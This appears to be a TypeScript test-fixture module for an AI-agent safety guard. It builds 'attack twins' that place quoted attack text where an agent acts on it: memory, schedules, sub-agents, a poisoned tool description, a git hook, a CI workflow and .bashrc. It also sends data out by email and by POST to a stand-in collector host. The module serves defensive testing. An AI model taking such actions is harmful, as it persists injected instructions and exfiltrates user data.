/** Round 16's quoted-attack matrix: a docs/test/fixture/rule file written in each agent's writing vocabulary, read
 * or grepped back, and the attack twins doing what the quoted text only describes (its text where it acts, its
 * command run, its key sent out). */

import type { Action } from "../../src/shield/types.ts";
import { action, addFilePatch } from "./matrix_rows.ts";

export const WORKSPACE = "/home/dev/project";

/** A row: a file quoting an attack (`path`, `content`, the attack text `quote`), how it is read back (`reads`:
 * command lines), and the twins that must stay stopped (label and action). */
export interface QuotedAttackRow {
  intent: string;
  mechanism: string;
  path: string;
  content: string;
  reads: Action[];
  twins: { label: string; action: Action }[];
}

/** One row: a file quoting an attack, how it is read back, and the twins that put its text where it acts. */
export function row(
  intent: string,
  mechanism: string,
  file: { path: string; content: string },
  reads: QuotedAttackRow["reads"],
  twins: QuotedAttackRow["twins"],
): QuotedAttackRow {
  return { intent, mechanism, path: file.path, content: file.content, reads, twins };
}

export const WRITE_VOCABULARIES = [
  "write_file",
  "edit_file",
  "Write",
  "Edit",
  "MultiEdit",
  "apply_patch",
  "OpenHands create",
  "Gemini write_file",
  "Gemini replace",
  "Cursor edit_file",
  "MCP write_file",
] as const;

const absolute = (path: string) => path.startsWith("/") ? path : `${WORKSPACE}/${path}`;

/** The file written in each vocabulary (edits replace a placeholder line with the content). */
export function writeForms(relative: string, content: string): Action[] {
  const path = absolute(relative);
  return [
    action("write_file", { path, content }),
    action("edit_file", { path, old_text: "// TODO\n", new_text: content }),
    action("Write", { file_path: path, content }),
    action("Edit", { file_path: path, old_string: "// TODO\n", new_string: content, replace_all: false }),
    action("MultiEdit", { file_path: path, edits: [{ old_string: "// TODO\n", new_string: content }] }),
    action("apply_patch", { input: addFilePatch(path, content) }),
    action("str_replace_editor", { command: "create", path, file_text: content }),
    action("write_file", { file_path: path, content }),
    action("replace", { file_path: path, old_string: "// TODO\n", new_string: content }),
    action("edit_file", { target_file: path, instructions: "Add the file", code_edit: content }),
    action("mcp__filesystem__write_file", { path, content }),
  ];
}

export const run = (command: string): Action => action("execute_command", { command });
export const bash = (command: string): Action => action("Bash", { command, description: "Look at the file" });
export const readOf = (relative: string): Action => action("Read", { file_path: absolute(relative) });

/** The quoted text written where an agent takes it as orders. */
export const actsIn = (file: string, text: string) => ({
  label: `in ${file}`,
  action: action("write_file", { path: absolute(file), content: `${text}\n` }),
});
export const remembered = (text: string) => ({
  label: "memory_write",
  action: action("memory_write", { content: text }),
});
export const scheduled = (text: string) => ({
  label: "schedule",
  action: action("create_schedule", { cron: "0 * * * *", task: text }),
});
export const delegated = (text: string) => ({
  label: "sub-agent",
  action: action("create_agent", { task: text }),
});
export const toolDescription = (text: string) => ({
  label: "MCP tool description",
  action: action("register_tool", {
    name: "format_code",
    description: `Formats source code. ${text}`,
    inputSchema: { type: "object", properties: { code: { type: "string" } } },
  }),
});
export const ran = (command: string) => ({ label: "run", action: run(command) });
export const inHook = (command: string) => ({
  label: "git hook",
  action: action("write_file", {
    path: `${WORKSPACE}/.git/hooks/pre-commit`,
    content: `#!/bin/sh\n${command}\n`,
  }),
});
export const inWorkflow = (command: string) => ({
  label: "CI workflow",
  action: action("write_file", {
    path: `${WORKSPACE}/.github/workflows/build.yml`,
    content: `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${command}\n`,
  }),
});
export const inShellRc = (command: string) => ({
  label: "shell rc",
  action: action("write_file", { path: "/home/dev/.bashrc", content: `${command}\n` }),
});
export const mailedOut = (text: string) => ({
  label: "sent out",
  action: action("send_email", { recipients: ["ops-review@proton.me"], subject: "notes", body: text }),
});
export const postedOut = (text: string) => ({
  label: "posted out",
  action: action("http_request", {
    method: "POST",
    url: "https://collect.data-sync.example.net/in",
    body: text,
  }),
});

export { action };
